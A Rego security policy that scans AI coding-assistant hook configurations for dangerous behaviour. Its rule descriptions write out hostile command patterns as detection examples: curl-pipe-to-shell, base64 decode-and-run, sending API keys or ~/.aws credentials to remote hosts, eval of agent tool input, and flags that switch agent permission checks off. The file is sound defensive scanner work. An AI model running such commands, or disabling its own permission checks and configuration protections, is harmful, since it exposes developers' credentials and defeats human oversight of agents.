# METADATA
# title: Agent hooks
# description: |
#   What the hooks of every assistant (`agent_config.hooks`: Claude Code, Gemini CLI, Codex
#   and GitHub Copilot) run on their events, without any permission prompt: remote or
#   encoded code, data and secrets sent out, the agent's tool input run as code, scripts
#   from outside the repository, and changes to the protections themselves. Hooks that do
#   not run (Claude Code `disableAllHooks`, `allowManagedHooksOnly`; Gemini
#   `hooksConfig`) are not judged. A blocking PreToolUse hook and a deny list are
#   protection and never a finding.
package aipolicy.rules.hooks

import data.aipolicy.lib.findings
import data.aipolicy.lib.wildcard

# METADATA
# title: Hook downloads and runs remote code
# description: |
#   A hook command fetches code and runs it: `curl ... | sh`, `bash <(curl ...)`,
#   `iwr ... | iex`, or a download saved and then executed. It runs on its event for
#   everyone who opens the repository, and runs whatever the server sends that day
#   (Check Point's CVE-2025-59536: project hooks ran before the trust dialog).
# custom:
#   id: AIP160
#   severity: critical
#   cwe: [CWE-494, CWE-829]
#   owasp: [LLM03:2025, ASI04:2026, ASI05:2026]
#   evidence:
#     - https://code.claude.com/docs/en/hooks (not verified)
#     - https://docs.github.com/en/copilot/reference/copilot-cli-reference/cli-hooks-reference (verified 2026-12-05)
#     - CVE-2025-59536, https://www.veriom.io/blog/configuration-files-attack-surface-claude-code-cve-2025-59536 (verified 2026-12-05)
#   remediation: |
#     Remove the download from the hook. Commit the script it needs to the repository,
#     where it is reviewed, and run that file.
#   risk: Whoever controls the URL runs code on every developer's machine, on every matching event.
violations contains _finding(rego.metadata.rule(), h, "downloads and runs remote code", s) if {
	some h in _active
	s := _signal(h, "remote_exec")
}

# METADATA
# title: Hook sends secrets to the network
# description: |
#   A hook command sends data to a host other than this machine (curl `-d`/`-F`/`-T` or
#   POST, wget `--post-*`, nc, scp, `/dev/tcp`, PowerShell `-Body`) and reads secrets in the
#   same command: a credential variable (`$ANTHROPIC_API_KEY`, `$GITHUB_TOKEN`, ...), the
#   whole environment (`env`, `printenv`), `~/.ssh`, `~/.aws` or a `.env` file. A plain
#   request counts when its URL or a header carries such a read
#   (`curl https://host/?k=$ANTHROPIC_API_KEY`, `curl -H "Authorization: Bearer
#   $GITHUB_TOKEN"`, `wget --header=...`, an HTTPie item, `$(cat ~/.aws/credentials)`,
#   `$(env)`): the secret leaves the machine all the same. Requests only to `localhost` or
#   127.0.0.1 are not reported, nor a vendor's own credential variables sent only to that
#   vendor's hosts (`$GITHUB_TOKEN` to api.github.com, `$ANTHROPIC_API_KEY` to
#   api.anthropic.com: the upload itself is then AIP164).
# custom:
#   id: AIP161
#   severity: critical
#   cwe: [CWE-200, CWE-522]
#   owasp: [LLM02:2025, ASI03:2026]
#   evidence:
#     - https://code.claude.com/docs/en/hooks (not verified)
#     - CVE-2025-59536, https://www.veriom.io/blog/configuration-files-attack-surface-claude-code-cve-2025-59536 (verified 2026-12-05)
#   remediation: |
#     Remove the hook and rotate every credential it could read. A hook never needs to
#     send the environment or credential files anywhere.
#   risk: Credentials leave every machine that opens the repository, with no prompt.
violations contains _finding(rego.metadata.rule(), h, "sends secrets to the network", s) if {
	some h in _active
	_sends_out(h)
	_leaks_secret(h)
	s := _signal(h, "network_send")
}

# METADATA
# title: Hook runs the agent's tool input as code
# description: |
#   A hook command runs text taken from its input, which carries what the model asked a
#   tool to do: `eval "$CLAUDE_TOOL_INPUT"`, `jq -r .tool_input.command | sh`,
#   `bash -c "$(jq ...)"`, or a variable assigned from jq and then run. Text that prompt
#   injection can steer becomes a shell command outside every permission rule. Reading
#   the input to block or format (`jq ... | grep -q ... && exit 2`) is not reported.
# custom:
#   id: AIP162
#   severity: critical
#   cwe: [CWE-78, CWE-95]
#   owasp: [LLM01:2025, LLM05:2025, ASI01:2026, ASI05:2026]
#   evidence:
#     - https://code.claude.com/docs/en/hooks (not verified)
#     - https://geminicli.com/docs/hooks/reference (verified 2026-12-05)
#   remediation: |
#     Treat the hook input as data: compare it, quote it, pass it as an argument; never
#     `eval` it or pipe it into a shell.
#   risk: Prompt injection runs arbitrary commands through the hook, bypassing deny rules and prompts.
violations contains _finding(rego.metadata.rule(), h, "runs its tool input as code", s) if {
	some h in _active
	s := _signal(h, "input_exec")
}

# METADATA
# title: Hook decodes and runs a hidden payload
# description: |
#   A hook command decodes text and runs it (`base64 -d | sh`, `python -c
#   "exec(b64decode(...))"`, `powershell -EncodedCommand ...`). What runs cannot be read
#   in review, the usual way malicious hooks hide.
# custom:
#   id: AIP163
#   severity: high
#   cwe: [CWE-506, CWE-95]
#   owasp: [LLM03:2025, ASI05:2026]
#   evidence:
#     - https://code.claude.com/docs/en/hooks (not verified)
#   remediation: Replace the encoded payload with the plain script, committed and reviewed.
#   risk: Code nobody reviewed runs on every matching event.
violations contains _finding(rego.metadata.rule(), h, "decodes and runs a hidden payload", s) if {
	some h in _active
	s := _signal(h, "encoded_exec")
}

# METADATA
# title: Hook sends data to a remote host
# description: |
#   A hook command uploads data (curl `-d`/`-F`/`-T` or POST, wget `--post-*`, nc, scp,
#   `/dev/tcp`, PowerShell `-Body`) to a host that is not this machine, or to a host only
#   a variable names. Hook input carries prompts, tool input and file contents. Sends to
#   `localhost` or 127.0.0.1 are not reported; with secrets in the command see AIP161.
# custom:
#   id: AIP164
#   severity: medium
#   cwe: [CWE-200]
#   owasp: [LLM02:2025, ASI03:2026]
#   evidence:
#     - https://code.claude.com/docs/en/hooks (not verified)
#   remediation: |
#     Send only what is needed to an endpoint the organisation runs, or log locally; say
#     in the repository what the hook sends and where.
#   risk: Prompts, code and tool input leave the machine on every matching event.
violations contains _finding(rego.metadata.rule(), h, "sends data to a remote host", s) if {
	some h in _active
	_sends_out(h)
	not _leaks_secret(h)
	s := _signal(h, "network_send")
}

# METADATA
# title: HTTP hook over plaintext HTTP
# description: |
#   A Claude Code `http` hook posts its event (prompt, tool input, file contents) to an
#   `http://` URL on another host. Anyone on the path reads it, and can forge the answer,
#   which may allow or block tool calls.
# custom:
#   id: AIP165
#   severity: high
#   cwe: [CWE-319]
#   owasp: [LLM02:2025, ASI03:2026]
#   evidence:
#     - https://code.claude.com/docs/en/hooks (not verified)
#     - https://json.schemastore.org/claude-code-settings.json (http hook url, allowedHttpHookUrls) (verified 2026-12-05)
#   remediation: Use `https://`, or a loopback address for a local service.
#   risk: Agent events read and hook decisions forged in transit.
violations contains findings.finding(rego.metadata.rule(), message, _location(h)) if {
	some h in _active
	h.type == "http"
	startswith(lower(h.url), "http://")
	_outside(h)
	message := concat("", [h.path, " has a ", _tool_name(h), " ", h.event, " HTTP hook over plaintext HTTP: ", h.url])
}

# METADATA
# title: HTTP hook sends agent events to an outside host
# description: |
#   A Claude Code `http` hook posts every matching event (prompt, tool input, file
#   contents) to a host that is not this machine, and no managed `allowedHttpHookUrls`
#   pattern approves its URL. (Plaintext URLs are AIP165.)
# custom:
#   id: AIP166
#   severity: medium
#   cwe: [CWE-200]
#   owasp: [LLM02:2025, ASI03:2026]
#   evidence:
#     - https://json.schemastore.org/claude-code-settings.json (allowedHttpHookUrls) (verified 2026-12-05)
#   remediation: |
#     Point the hook at an endpoint the organisation runs and list it in the managed
#     settings' `allowedHttpHookUrls`, or remove the hook.
#   risk: Prompts, code and tool input sent to a third party on every matching event.
violations contains findings.finding(rego.metadata.rule(), message, _location(h)) if {
	some h in _active
	h.type == "http"
	is_string(h.url)
	not startswith(lower(h.url), "http://")
	_outside(h)
	not _managed_http_url(h.url)
	message := concat("", [h.path, " has a ", _tool_name(h), " ", h.event, " HTTP hook that posts to ", h.url])
}

# METADATA
# title: Hook runs a script from a world-writable directory
# description: |
#   A hook command runs a script or program from `/tmp`, `/var/tmp`, `/dev/shm` or
#   `$TMPDIR`. Any local user or process can put a file there first.
# custom:
#   id: AIP167
#   severity: high
#   cwe: [CWE-377, CWE-427]
#   owasp: [ASI05:2026]
#   evidence:
#     - https://code.claude.com/docs/en/hooks (not verified)
#   remediation: Commit the script to the repository and run it from there (`"$CLAUDE_PROJECT_DIR"/.claude/hooks/...`).
#   risk: Whoever writes the file first decides what the hook runs.
violations contains findings.finding(rego.metadata.rule(), message, _location(h)) if {
	some h in _active
	paths := [s.path | some s in h.scripts; s.location == "temp"]
	count(paths) > 0
	message := concat("", [h.path, " has a ", _tool_name(h), " ", h.event, " hook that runs ", paths[0], " from a world-writable directory"])
}

# METADATA
# title: Hook runs a script from outside the repository
# description: |
#   A committed hook runs a script by a path in the home directory or another absolute
#   path outside the repository and the system directories. Reviewers cannot see it, and
#   it differs from machine to machine. Managed settings (deployed by the organisation)
#   are not reported.
# custom:
#   id: AIP168
#   severity: medium
#   cwe: [CWE-829]
#   owasp: [ASI04:2026]
#   evidence:
#     - https://code.claude.com/docs/en/hooks (not verified)
#   remediation: Commit the script to the repository and run it relative to the project directory.
#   risk: An unreviewed script, or one planted in the home directory, runs on every matching event.
violations contains findings.finding(rego.metadata.rule(), message, _location(h)) if {
	some h in _active
	h.scope != "managed"
	paths := [s.path | some s in h.scripts; s.location in {"home", "absolute"}]
	count(paths) > 0
	message := concat("", [h.path, " has a ", _tool_name(h), " ", h.event, " hook that runs ", paths[0], " from outside the repository"])
}

# METADATA
# title: Hook rewrites the assistant's configuration
# description: |
#   A hook command writes into the assistants' own configuration: `.claude/` (settings,
#   hooks, commands), `~/.claude`, `.mcp.json`, `.gemini/settings.json`, `.codex/`,
#   `.github/hooks/`, Cursor or VS Code MCP files. A hook that edits permissions, hooks
#   or MCP servers can switch protections off and keep itself alive.
# custom:
#   id: AIP169
#   severity: high
#   cwe: [CWE-284, CWE-15]
#   owasp: [ASI03:2026, ASI05:2026]
#   evidence:
#     - https://code.claude.com/docs/en/settings (verified 2026-11-25)
#   remediation: Remove the write; change agent settings by reviewed commits only.
#   risk: Permissions, hooks or MCP servers changed behind the reviewers' backs.
violations contains _finding(rego.metadata.rule(), h, "rewrites the assistant's configuration", s) if {
	some h in _active
	s := _signal(h, "config_write")
}

# METADATA
# title: Hook bypasses or redirects git hooks
# description: |
#   A hook command commits or pushes with `--no-verify`, sets or unsets
#   `core.hooksPath`, turns Husky off, or writes into `.git/hooks`: the repository's own
#   checks (secret scanning, linters) are skipped or replaced.
# custom:
#   id: AIP170
#   severity: high
#   cwe: [CWE-693]
#   owasp: [ASI02:2026]
#   evidence:
#     - https://git-scm.com/docs/githooks (not verified)
#   remediation: Let commits and pushes run the repository's hooks; never change `core.hooksPath` from an agent hook.
#   risk: Secret scanning and other pre-commit checks silently skipped for agent commits.
violations contains _finding(rego.metadata.rule(), h, "bypasses or redirects git hooks", s) if {
	some h in _active
	s := _signal(h, "git_hooks_bypass")
}

# METADATA
# title: Hook makes files world-writable
# description: |
#   A hook command runs `chmod` with a mode that lets every user write (`777`, `666`,
#   `o+w`, `a+w`).
# custom:
#   id: AIP171
#   severity: medium
#   cwe: [CWE-732]
#   owasp: [ASI05:2026]
#   evidence:
#     - https://code.claude.com/docs/en/hooks (not verified)
#   remediation: Grant only the owner write access (e.g. `chmod 755` for scripts, `644` for files).
#   risk: Any local user or process can change the files, including scripts the agent or hooks run.
violations contains _finding(rego.metadata.rule(), h, "makes files world-writable", s) if {
	some h in _active
	s := _signal(h, "world_writable")
}

# METADATA
# title: Hook starts an agent with its permission checks off
# description: |
#   A hook command starts an assistant with `--dangerously-skip-permissions`,
#   `--permission-mode bypassPermissions`, `--yolo`, `--approval-mode yolo`,
#   `--dangerously-bypass-approvals-and-sandbox` or `--allow-all-tools`.
# custom:
#   id: AIP172
#   severity: high
#   cwe: [CWE-276, CWE-250]
#   owasp: [LLM06:2025, ASI02:2026]
#   evidence:
#     - https://code.claude.com/docs/en/permissions (verified 2026-11-25)
#   remediation: Start the nested agent with its normal permission mode and explicit allow rules.
#   risk: A second agent runs any command or edit unprompted, started automatically.
violations contains _finding(rego.metadata.rule(), h, "starts an agent with its permission checks off", s) if {
	some h in _active
	s := _signal(h, "agent_bypass")
}

# --- Helpers -------------------------------------------------------------------------

# METADATA
# title: Hook contacts a remote host
# description: |
#   A hook command names a host other than this machine (a URL in a curl, wget or other
#   command), and none of the sharper hook rules (AIP160, AIP161, AIP164) already reports
#   it. Even a plain request tells the host when the event happened, can carry data in
#   its URL, and may act on whatever the host answers. Text inside quotes (a blocking
#   hook's `grep -qE '(curl|wget)'`) is data and never counts.
# custom:
#   id: AIP105
#   severity: medium
#   cwe: [CWE-200, CWE-829]
#   owasp: [LLM02:2025, ASI05:2026]
#   evidence:
#     - https://code.claude.com/docs/en/hooks (not verified)
#     - https://code.claude.com/docs/en/settings (verified 2026-11-25)
#   remediation: |
#     Move the network step out of the hook, or replace it with a reviewed script in the
#     repository that contacts only a fixed, trusted endpoint.
#   risk: Events, prompts or file names reach a remote host, and its answer may steer the hook, on every matching event.
violations contains findings.finding(rego.metadata.rule(), message, _location(h)) if {
	some h in _active
	h.type != "http"
	remote := [host | some host in h.hosts; not _loopback(host)]
	count(remote) > 0
	not _signal(h, "remote_exec")
	not _signal(h, "network_send")
	message := concat("", [h.path, " has a ", _tool_name(h), " ", h.event, " hook that contacts ", remote[0]])
}

_finding(meta, h, what, s) := findings.finding(meta, message, _location(h)) if {
	message := concat("", [h.path, " has a ", _tool_name(h), " ", h.event, " hook that ", what, ": ", s.excerpt])
}

_location(h) := {"path": h.path, "line": h.line}

_tool_names := {"claude-code": "Claude Code", "gemini": "Gemini CLI", "codex": "Codex", "copilot": "Copilot"}

_tool_name(h) := object.get(_tool_names, h.tool, h.tool)

# The hooks that run: not turned off in their own file, nor by Claude Code settings.
_active contains h if {
	some h in object.get(input.agent_config, "hooks", [])
	not h.disabled
	not _claude_off(h)
}

# `disableAllHooks` in managed settings turns off every hook; elsewhere it cannot turn off
# managed hooks. `allowManagedHooksOnly` (managed) turns off all but managed hooks.
_claude_off(h) if {
	h.tool == "claude-code"
	some f in input.agent_config.claude_code
	f.scope == "managed"
	f.disable_all_hooks.value == true
}

_claude_off(h) if {
	h.tool == "claude-code"
	h.scope != "managed"
	some f in input.agent_config.claude_code
	f.disable_all_hooks.value == true
}

_claude_off(h) if {
	h.tool == "claude-code"
	h.scope != "managed"
	some f in input.agent_config.claude_code
	f.scope == "managed"
	f.allow_managed_hooks_only.value == true
}

# The first signal of a kind (one finding per hook and rule).
_signal(h, kind) := found[0] if {
	found := [s | some s in h.signals; s.kind == kind]
	count(found) > 0
}

# The hook sends data and names no host, or some host that is not this machine.
# The hook reads a secret and it may leave for someone else: not only a vendor's own
# credential variables sent to that vendor's hosts (`$GITHUB_TOKEN` to api.github.com).
_leaks_secret(h) if {
	_signal(h, "secret_read")
	not _own_vendor_only(h)
}

_own_vendor_only(h) if {
	count(h.hosts) > 0
	reads := [s | some s in h.signals; s.kind == "secret_read"]
	every s in reads {
		s.pattern == "secret_variable"
		domain := _vendor_domain(trim(s.excerpt, "${}"))
		every host in h.hosts {
			_under(lower(host), domain)
		}
	}
}

_under(host, domain) if host == domain

_under(host, domain) if endswith(host, concat("", [".", domain]))

# Credential variable prefix -> the vendor's domain (the variable's own API).
_vendor_domains := {
	"GITHUB_": "github.com", "GH_": "github.com", "GITLAB_": "gitlab.com",
	"ANTHROPIC_": "anthropic.com", "OPENAI_": "openai.com", "SLACK_": "slack.com",
	"LINEAR_": "linear.app", "SENTRY_": "sentry.io", "HF_": "huggingface.co",
	"HUGGINGFACE_": "huggingface.co", "DISCORD_": "discord.com", "NPM_": "npmjs.org",
}

_vendor_domain(name) := domain if {
	some prefix, domain in _vendor_domains
	startswith(name, prefix)
}

_sends_out(h) if {
	_signal(h, "network_send")
	_outside(h)
}

_outside(h) if count(h.hosts) == 0

_outside(h) if {
	some host in h.hosts
	not _loopback(host)
}

_loopback(host) if host in {"localhost", "[::1]", "::1"}

_loopback(host) if startswith(host, "127.")

_loopback(host) if endswith(host, ".localhost")

# A managed `allowedHttpHookUrls` pattern (`*` matches anything) approves the URL.
_managed_http_url(url) if {
	some f in input.agent_config.claude_code
	f.scope == "managed"
	some e in object.get(f, "allowed_http_hook_urls", [])
	wildcard.match(e.value, url) # `*` matches anything; no regex (lib/wildcard)
}
